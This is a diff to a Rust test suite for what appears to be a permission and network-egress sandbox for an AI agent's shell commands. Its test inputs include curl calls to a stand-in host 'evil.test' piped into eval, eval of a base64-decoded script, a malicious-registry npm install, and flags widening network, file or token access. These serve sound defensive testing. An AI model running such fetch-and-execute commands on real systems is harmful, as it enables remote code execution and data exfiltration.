@@ -275,10 +275,37 @@ fn a_variable_that_makes_git_run_something() {
 }
 
 #[test]
-fn what_needs_a_network_is_not_sent_where_there_is_none() {
+fn what_needs_a_registry_reaches_that_alone() {
     let agent = Agent::new();
-    let answer = agent.ask("npm install left-pad").unwrap_err();
-    assert_eq!(answer["permissionDecision"], "ask", "{answer}");
+    for command in ["npm install left-pad", "pip install --target vendor six", "npx cowsay hi"] {
+        let answer = agent.ask(command);
+        assert!(answer.is_ok(), "{command}: {answer:?}");
+    }
+    agent.packed("script", &format!("{}\nmkdir -p build && echo x > build/result", agent.harm()));
+    let fetch = "curl -sS -m 3 https://registry.npmjs.org/left-pad > page 2> page.err";
+    agent.works(&format!("{fetch}; eval \"$(base64 -d script)\""), "build/result");
+    let audit = agent.audit();
+    let run = audit.lines().find(|line| line.contains("\"exit\":0")).unwrap();
+    let entry: Value = serde_json::from_str(run).unwrap();
+    assert_eq!(entry["hosts"], json!(["registry.npmjs.org"]), "{entry}");
+    let reached = entry["egress"]["lines"].as_array().unwrap();
+    assert!(reached.iter().any(|it| it["host"] == "registry.npmjs.org"), "{entry}");
+}
+
+#[test]
+fn what_needs_another_host_is_asked_about() {
+    let agent = Agent::new();
+    agent.file("count", "echo once >> counted");
+    for command in [
+        "curl -sS https://evil.test/ > page; eval \"$(cat count)\"",
+        "curl -sS https://192.0.2.1/ > page; eval \"$(cat count)\"",
+        "curl -sS \"https://$HOST/\" > page; eval \"$(cat count)\"",
+        "npm install --registry https://evil.test/ left-pad",
+        "npm install -g left-pad",
+    ] {
+        let answer = agent.ask(command).unwrap_err();
+        assert_ne!(answer["permissionDecision"], "allow", "{command}: {answer}");
+    }
 }
 
 #[test]
@@ -301,7 +328,15 @@ fn a_decision_is_carried_out_as_it_was_made() {
     agent.file("count", "echo once >> counted");
     agent.file("evil", "#!/bin/sh\necho evil >> counted\n");
     assert!(agent.run("chmod +x evil; mkdir ../other").status.success());
-    for more in ["--net", "--write ../other", "--read ..", "--workspace ..", "--env DEPLOY_TOKEN"] {
+    for more in [
+        "--net",
+        "--allow-host evil.test",
+        "--publish 3000",
+        "--write ../other",
+        "--read ..",
+        "--workspace ..",
+        "--env DEPLOY_TOKEN",
+    ] {
         let rewritten = agent.ask("eval \"$(cat count)\"").unwrap();
         let wider = rewritten.replacen(" -- ", &format!(" {more} -- "), 1);
         let output = agent.run(&wider);
